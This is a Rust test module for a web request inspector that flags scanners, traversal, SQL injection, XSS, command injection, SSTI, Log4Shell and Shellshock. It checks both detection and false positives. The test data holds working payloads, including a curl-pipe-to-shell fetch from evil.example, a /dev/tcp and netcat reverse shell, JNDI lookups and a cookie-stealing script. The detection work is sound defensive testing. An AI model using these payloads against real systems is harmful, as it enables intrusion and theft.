    fn benign_request_has_no_hits_and_borrows() {
        assert!(packs_hit("/api/products/42", Some("page=2&sort=price"), Some(CHROME)).is_empty());
        for q in [
            "q=o%27neill",
            "q=select+fit+jeans",
            "q=union+made",
            "q=drop+shipping",
            "q=and+or",
            "q=1%3D1+math",
            "q=rock+%26+roll",
            "q=C%2B%2B+tutorial",
            "q=what+is+%3Cb%3Ebold%3C%2Fb%3E",
            "q=JavaScript%3A+The+Good+Parts",
            "q=List%3CObject%3E",
            "email=jane.doe%40example.com",
            "max=%245&off=50%25",
        ] {
            assert!(
                packs_hit("/search", Some(q), Some(CHROME)).is_empty(),
                "{q}"
            );
        }
    }

    #[test]
    fn scanner_ua() {
        let uas = [
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Fuzz Faster U Fool v2.1.0-dev",
            "gobuster/3.6",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "Mozilla/4.0 (Hydra)",
            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        ];
        for ua in uas {
            assert_catches("scanner_ua", &[("/", None, Some(ua))]);
        }
        for ua in [
            "curl/8.4.0",
            "python-requests/2.31.0",
            "Go-http-client/1.1",
            "okhttp/4.12.0",
        ] {
            assert!(packs_hit("/", None, Some(ua)).is_empty(), "{ua}");
        }
    }

    #[test]
    fn sensitive_file() {
        assert_catches(
            "sensitive_file",
            &[
                ("/.env", None, None),
                ("/api/.env.production", None, None),
                ("/.git/config", None, None),
                ("/%2egit/HEAD", None, None),
                ("/.DS_Store", None, None),
                ("/index.php.bak", None, None),
                ("/backup.tar.gz", None, None),
                ("/wp-login.php", None, None),
                ("/.aws/credentials", None, None),
                ("/actuator/env", None, None),
                ("/debug/pprof/", None, None),
            ],
        );
        for p in [
            "/blog/2024/03/env-vars-explained",
            "/backup-policy",
            "/docs/git-tutorial",
            "/actuator/health",
            "/static/app.3f2a.js",
        ] {
            assert!(packs_hit(p, None, None).is_empty(), "{p}");
        }
    }

    #[test]
    fn traversal() {
        assert_catches(
            "traversal",
            &[
                ("/static/..%2f..%2f..%2fetc/passwd", None, None),
                ("/static/%2e%2e/%2e%2e/secret", None, None),
                ("/static/..%252f..%252fapp.db", None, None),
                ("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/x", None, None),
                ("/download", Some("file=..\\..\\windows\\win.ini"), None),
                ("/download", Some("file=..%5c..%5cboot.ini"), None),
                ("/view", Some("page=../config.yml"), None),
                ("/view", Some("page=....//....//etc/passwd"), None),
                ("/view", Some("f=%25c0%25ae%25c0%25ae/"), None),
            ],
        );
    }

    #[test]
    fn sqli() {
        assert_catches(
            "sqli",
            &[
                ("/login", Some("user=admin%27--"), None),
                ("/items", Some("id=1%27+OR+%271%27%3D%271"), None),
                ("/items", Some("id=1+or+1%3D1"), None),
                ("/items", Some("id=-1+UNION+ALL+SELECT+NULL,NULL--"), None),
                ("/items", Some("id=1/**/union/**/select/**/1,2,3"), None),
                ("/items", Some("id=1%3B+DROP+TABLE+users"), None),
                ("/items", Some("id=1+AND+SLEEP(5)"), None),
                (
                    "/items",
                    Some("id=1%27%20and%20extractvalue(1,concat(0x7e,version()))--"),
                    None,
                ),
                (
                    "/items",
                    Some(
                        "q=x%27%20union%20select%20table_name%20from%20information_schema.tables--",
                    ),
                    None,
                ),
                ("/items", Some("id=1;waitfor+delay+%270:0:5%27"), None),
                ("/", None, Some("Mozilla/5.0' or sleep(10)#")),
            ],
        );
    }

    #[test]
    fn xss() {
        assert_catches(
            "xss",
            &[
                ("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"), None),
                (
                    "/search",
                    Some("q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
                    None,
                ),
                (
                    "/search",
                    Some("q=%3Csvg/onload=alert(document.domain)%3E"),
                    None,
                ),
                ("/go", Some("next=javascript:alert(1)"), None),
                ("/search", Some("q=%22+onmouseover%3D%22alert(1)"), None),
                ("/go", Some("u=data:text/html;base64,PHNjcmlwdD4="), None),
                ("/search", Some("q=%3Ciframe+src%3D//evil.example%3E"), None),
                (
                    "/",
                    None,
                    Some("<script>fetch('//x/'+document.cookie)</script>"),
                ),
            ],
        );
    }

    #[test]
    fn cmdi() {
        assert_catches(
            "cmdi",
            &[
                ("/ping", Some("host=127.0.0.1%3Bcat+/etc/passwd"), None),
                ("/ping", Some("host=127.0.0.1|whoami"), None),
                (
                    "/ping",
                    Some("host=x%26%26curl+http://evil.example/x.sh|sh"),
                    None,
                ),
                ("/ping", Some("host=%24(id)"), None),
                ("/ping", Some("host=`whoami`"), None),
                ("/ping", Some("host=x;cat${IFS}/etc/passwd"), None),
                ("/ping", Some("host=x%0aid;"), None),
                (
                    "/ping",
                    Some("cmd=bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261"),
                    None,
                ),
                (
                    "/",
                    None,
                    Some("() { :; }; /bin/bash -c 'nc -e /bin/sh 10.0.0.1 4444'"),
                ),
            ],
        );
    }

    #[test]
    fn ssti() {
        assert_catches(
            "ssti",
            &[
                ("/hello", Some("name=%7B%7B7*7%7D%7D"), None),
                ("/hello", Some("name=%24%7B7*7%7D"), None),
                ("/hello", Some("name=%23%7B7*7%7D"), None),
                ("/hello", Some("name=<%25%3D+7*7+%25>"), None),
                (
                    "/hello",
                    Some("name={{''.__class__.__mro__[1].__subclasses__()}}"),
                    None,
                ),
                ("/hello", Some("name={{config.items()}}"), None),
                (
                    "/hello",
                    Some("name=${T(java.lang.Runtime).getRuntime().exec('id')}"),
                    None,
                ),
                ("/hello/%7B%7B7*'7'%7D%7D", None, None),
            ],
        );
    }

    #[test]
    fn log4shell() {
        assert_catches(
            "log4shell",
            &[
                ("/", None, Some("${jndi:ldap://evil.example/a}")),
                (
                    "/",
                    Some("x=%24%7Bjndi%3Armi%3A%2F%2Fevil.example%2Fa%7D"),
                    None,
                ),
                (
                    "/",
                    None,
                    Some("${${lower:j}ndi:${lower:l}dap://evil.example/a}"),
                ),
                (
                    "/",
                    None,
                    Some("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}"),
                ),
                ("/", None, Some("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}")),
                ("/${jndi:dns://x.example/a}", None, None),
                ("/", Some("q=${env:AWS_SECRET_ACCESS_KEY}"), None),
            ],
        );
    }

    #[test]
    fn shellshock() {
        assert_catches(
            "shellshock",
            &[
                (
                    "/cgi-bin/status",
                    None,
                    Some("() { :; }; echo; /bin/cat /etc/passwd"),
                ),
                ("/", None, Some("() { :;}; /bin/bash -c \"sleep 5\"")),
                ("/", None, Some("() { _; } >_[$($())] { echo hi; }")),
                ("/", Some("x=()+%7B+%3A%3B+%7D%3B+id"), None),
            ],
        );
    }

    /// (pack, strong) per hit.
    fn verdicts(path: &str, query: Option<&str>) -> Vec<(String, bool)> {
        Inspector::builtin()
            .inspect(path, query, None)
            .into_iter()
            .map(|h| (h.pack.to_string(), !h.weak))
            .collect()
    }

    fn assert_strong(pack: &str, path: &str, query: Option<&str>) {
        let v = verdicts(path, query);
        assert!(
            v.iter().any(|(p, strong)| p == pack && *strong),
            "{pack} not strong on path={path:?} query={query:?}: {v:?}"
        );
    }

    #[test]
    fn issue_evasions_are_caught_strongly() {
        // Double encoding.
        assert_strong("sqli", "/items", Some("id=1%2527+or+%25271%2527%3D%25271"));
        assert_strong("cmdi", "/ping", Some("host=127.0.0.1%253Bid"));
        assert_strong("log4shell", "/", Some("x=$%257Bjndi:ldap://x/a}"));
        // MySQL version comments.
        assert_strong(
            "sqli",
            "/items",
            Some("id=1+/*!50000UNION*/+/*!50000SELECT*/+1,2"),
        );
        assert_strong(
            "sqli",
            "/items",
            Some("id=1/*!50000UNION*//*!50000SELECT*/1,2"),
        );
        // A tautology of other numbers.
        assert_strong("sqli", "/items", Some("id=1+AND+2%3D2"));
        // HTTP parameter pollution.
        assert_strong(
            "sqli",
            "/items",
            Some("id=1/*&id=*/UNION/*&id=*/SELECT/*&id=*/1"),
        );
        assert_strong("sqli", "/items", Some("id=1+UNION/*&x=1&id=*/SELECT+1,2"));
        // Entities, new event handlers.
        assert_strong("xss", "/go", Some("u=jav%26%23x61%3Bscript:alert(1)"));
        assert_strong("xss", "/go", Some("u=jav%26Tab%3Bascript:alert(1)"));
        assert_strong("xss", "/s", Some("q=%3Cdiv+onscrollend%3Dalert(1)%3E"));
        assert_strong(
            "xss",
            "/s",
            Some("q=%3Cx+oncontentvisibilityautostatechange%3Dx%3E"),
        );
        // NUL after dots.
        assert_strong("traversal", "/static/..%00/app.db", None);
        // Separator and command word.
        for q in [
            "host=127.0.0.1;id",
            "host=127.0.0.1|id",
            "host=x%0aid",
            "host=127.0.0.1;w'h'o'am'i",
            r"host=x;c\at+/e\tc/hosts",
            "host=|id",
        ] {
            assert_strong("cmdi", "/ping", Some(q));
        }
        // A script element that runs something, however it is written.
        for q in [
            "q=%3Cscript%3E",
            "q=%3Cscript%3Ealert(1)",
            "q=%3Cscript%3Edocument.cookie",
            "q=x%3C/script%3E",
            "q=%3Cscript+src%3D//x.example/a.js%3E",
            "q=%3Cscript/src=//x.example/a.js%3E",
            "q=%3Cscript%3E%3Cimg",
            "q=%3CsCrIpT%3E&x=1",
            // Breaking out of an inline script: a closing tag at the end, or before markup.
            "q=x%3C/script%3E",
            "q=%22%3B%3C/script%3E%3Csvg+onload%3Dalert(1)%3E",
        ] {
            assert_strong("xss", "/s", Some(q));
        }
        // Full-width and overlong forms.
        assert_strong("xss", "/s", Some("q=%EF%BC%9Cscript%EF%BC%9E"));
        assert_strong("sqli", "/s", Some("q=x%EF%BC%87+or+1%3D1--+"));
        assert_strong("sqli", "/s", Some("q=1%c0%a7+or+1%3D1--+"));
        // Alternative whitespace.
        assert_strong("sqli", "/s", Some("id=1%a0union%a0select%a0null,null"));
        assert_strong("sqli", "/s", Some("id=1%0bunion%0cselect%0dnull,null"));
        // sqlmap's comment tampers.
        assert_strong("sqli", "/s", Some("id=1+UNION%23abc%0aSELECT+1,2"));
        assert_strong("sqli", "/s", Some("id=1+UNI/**/ON+SEL/**/ECT+1,2"));
    }

    /// An attacker who reads the tokeniser's bounds (64 values, names skipped) puts the
    /// payload past them: the patterns still scan the whole query.
    #[test]
    fn payloads_past_the_tokeniser_bounds_are_still_caught() {
        let mut q: String = (0..70).map(|i| format!("p{i}=v&")).collect();
        q.push_str("id=1%27+or+%27a%27%3D%27a");
        assert!(verdicts("/items", Some(&q)).contains(&("sqli".to_owned(), true)));
        let name = "x=1&1%27+or+1%3D1--=y";
        assert!(verdicts("/items", Some(name)).contains(&("sqli".to_owned(), true)));
        let mut q: String = (0..70).map(|i| format!("p{i}=v&")).collect();
        q.push_str("c=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E");
        assert!(verdicts("/items", Some(&q)).contains(&("xss".to_owned(), true)));
    }

    /// What a developer types into a search box is weak at most, however it is phrased.
    #[test]
    fn developer_searches_are_never_strong() {
        for q in [
            "q=select+*+from+users+where+id+%3D+1",
            "q=SELECT+name+FROM+users+WHERE+id+%3D+1",
            "q=List%3CObject%3E",
            "q=%3Cdiv%3E+vs+%3Cspan%3E",
            "q=JavaScript%3A+The+Good+Parts",
            "q=%3Cscript%3E+tag+placement",
            "q=where+to+put+the+%3Cscript%3E+tag",
            "q=how+do+i+close+a+%3C%2Fscript%3E+tag",
            "q=sudo+apt+update+%26%26+sudo+apt+upgrade",
            "q=ps+aux+%7C+grep+java",
            "q=git+log+--oneline+%7C+head",
            "q=how+to+use+grep+%7C+sort",
            "q=for+i+in+%24(seq+1+10)",
            "q=.%2Fconfigure+%26%26+make",
            "q=%24(document).ready",
            "q=echo+%24PATH",
            "q=data%3Aimage%2Fpng%3Bbase64",
        ] {
            assert!(
                verdicts("/search", Some(q))
                    .iter()
                    .all(|(_, strong)| !strong),
                "{q}: {:?}",
                verdicts("/search", Some(q))
            );
        }
    }

    /// Command injections the patterns alone did not see, recognised by the shell tokeniser.
    #[test]
    fn shell_tokeniser_catches_reshaped_commands() {
        for q in [
            "host=%3Bread%3B",
            "host=%5Cnnetstat+-a",
            "host=id%00",
            "host=127.0.0.1+%7C+id",
            "host=127.0.0.1+%7C+i%5Cd",
            "host=%3B%24(printf+%27id%27)",
            "host=%7C+t%27y%27pe+c%3A%5Cwindows%5Cwin.ini",
            "host=%22%29%7Cid",
            "host=a%29%3Bid%3B%23",
            "host=x%7Cid",
            "host=%26ping+-n+3+127.0.0.1%26",
            "host=a%3Bwh%22%22oami",
            "host=127.0.0.1%0D%0Aid",
        ] {
            assert_strong("cmdi", "/ping", Some(q));
        }
        assert_strong("cmdi", "/ping/127.0.0.1%3Bw%27h%27o%27am%27i", None);
    }

    /// Text with the shell's punctuation that is not a command line at all.
    #[test]
    fn shell_punctuation_in_text_is_nothing() {
        for q in [
            "q=tom+%26+jerry",
            "q=R%26D+department",
            "q=rock%7Cpop",
            "q=5+%7C+3",
            "q=echo+chamber",
            "q=cat+videos",
            "q=set+up+my+account",
            "q=ping+pong+table",
            "q=%245+coffee",
            "q=dog+%26+cat",
        ] {
            assert!(
                verdicts("/search", Some(q)).is_empty(),
                "{q}: {:?}",
                verdicts("/search", Some(q))
            );
        }
    }

    #[test]
    fn doubled_slash_is_collapsed() {
        assert_strong("sensitive_file", "/pma/scripts/setup.php", None);
        assert_strong("sensitive_file", "//pma/scripts/setup.php", None);
        assert_strong("sensitive_file", "/static/../.env", None);
    }

    #[test]
    fn traversal_is_strong_only_above_the_root() {
        assert_strong("traversal", "/static/..%2f..%2fapp.db", None);
        assert_strong("traversal", "/download", Some("file=../../app.db"));
        assert_strong("traversal", "/download", Some("file=a/../../../app.db"));
        assert_strong("traversal", "/x/..;/..;/manager", None);
        // Inside the site: nothing stronger than a weak hit.
        for (path, query) in [
            ("/account", Some("next=/account/../orders")),
            ("/static/../index.html", None),
            ("/view", Some("next=../orders")),
        ] {
            let v = verdicts(path, query);
            assert!(
                v.iter().all(|(_, strong)| !strong),
                "{path} {query:?}: {v:?}"
            );
        }
        assert_eq!(
            verdicts("/account", Some("next=/account/../orders")),
            [("traversal".to_owned(), false)]
        );
    }

    #[test]
    fn free_text_is_weak_at_most() {
        for q in [
            "q=backup+first%3B+update+router+settings",
            "q=chapter+3%3B+create+table+of+contents",
            "q=Guns+N%27+--+Roses",
            "q=cd+app%3B+ls+-la",
            "q=alert(%27hi%27)+not+working",
            "fields=name|id",
            "q=it%27s+a+%22quote%22",
            "q=C%23+tutorial%0Aline+2+--+x",
        ] {
            let v = verdicts("/search", Some(q));
            assert!(v.iter().all(|(_, strong)| !strong), "{q}: {v:?}");
        }
        assert_eq!(
            verdicts("/search", Some("q=cd+app%3B+ls+-la")),
            [("cmdi".to_owned(), false)]
        );
        assert!(verdicts("/search", Some("q=backup+first%3B+update+router+settings")).is_empty());
    }

    #[test]
    fn one_hit_per_pack_in_pack_order_with_first_field() {
        let hits = Inspector::builtin().inspect(
            "/search",
            Some("q=%3Cscript%3E&u=javascript:alert(1)"),
            Some("<script>sqlmap</script>"),
        );
        let summary: Vec<(&str, Field)> = hits.iter().map(|h| (&*h.pack, h.field)).collect();
        assert_eq!(
            summary,
            [("scanner_ua", Field::UserAgent), ("xss", Field::Query)]
        );
        assert_eq!(hits[1].sample, "<script>&");
    }

    #[test]
    fn samples_are_short_and_escaped() {
        assert_eq!(sample(b"a\nb\x01"), "a\\nb\\u{1}");
        assert_eq!(sample(&[b'x'; 200]).chars().count(), SAMPLE_CHARS);
        assert_eq!(sample(&[b'\x01'; 200]), "\\u{1}".repeat(16));
        let hits = Inspector::builtin().inspect("/", Some("q=%3Cscript%0A%3E"), None);
        assert_eq!(hits[0].sample, "<script\\n>");
    }

    #[test]
    fn custom_packs_and_literals() {
        let inspector = Inspector::new(vec![Pack {
            id: "legacy".into(),
            fields: vec![Field::Path, Field::UserAgent],
            patterns: vec![r"^/old-admin\b".into()],
            literals: vec!["EvilBot".into()],
            weak: vec![],
            tokeniser: None,
        }])
        .unwrap();
        let hits = inspector.inspect("/OLD-ADMIN/users", None, Some("x evilbot/1"));
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].field, Field::Path);
        assert_eq!(hits[0].sample, "/OLD-ADMIN");
        let hits = inspector.inspect("/", Some("evilbot"), Some("x EVILBOT/1"));
        assert_eq!(
            (hits[0].field, hits[0].sample.as_str()),
            (Field::UserAgent, "EVILBOT")
        );
    }

    #[test]
    fn bad_regex_names_pack_and_pattern() {
        let err = Inspector::new(vec![
            Pack {
                id: "fine".into(),
                fields: vec![Field::Query],
                patterns: vec!["abc".into()],
                literals: vec![],
                weak: vec![],
                tokeniser: None,
            },
            Pack {
                id: "broken".into(),
                fields: vec![Field::Path],
                patterns: vec!["ok".into(), "(unclosed".into()],
                literals: vec![],
                weak: vec![],
                tokeniser: None,
            },
        ])
        .unwrap_err();
        assert_eq!(err.kind(), SignatureErrorKind::InvalidPattern);
        assert_eq!(err.pack(), "broken");
        assert_eq!(err.pattern(), Some("(unclosed"));
        let text = err.to_string();
        assert!(
            text.contains("broken") && text.contains("(unclosed"),
            "{text}"
        );
        assert!(text.contains("unclosed group"), "{text}");
        assert!(std::error::Error::source(&err).is_some());
    }

    #[test]
    fn duplicate_and_fieldless_packs_are_refused() {
        let p = |id: &str, fields: Vec<Field>| Pack {
            id: id.into(),
            fields,
            patterns: vec!["x".into()],
            literals: vec![],
            weak: vec![],
            tokeniser: None,
        };
        let err = Inspector::new(vec![p("a", vec![Field::Path]), p("a", vec![Field::Query])])
            .unwrap_err();
        assert_eq!(err.kind(), SignatureErrorKind::DuplicatePack);
        let err = Inspector::new(vec![p("b", vec![])]).unwrap_err();
        assert_eq!(
            (err.kind(), err.pack()),
            (SignatureErrorKind::NoFields, "b")
        );
    }

    #[test]
    fn inspector_is_send_sync_and_pack_serde_round_trips() {
        fn assert_send_sync<T: Send + Sync + Clone>() {}
        assert_send_sync::<Inspector>();
        let json = serde_json::to_string(&builtin_packs()[0]).unwrap();
        assert!(json.contains(r#""fields":["user_agent"]"#), "{json}");
        let back: Pack = serde_json::from_str(&json).unwrap();
        assert_eq!(back.id, "scanner_ua");
    }
}
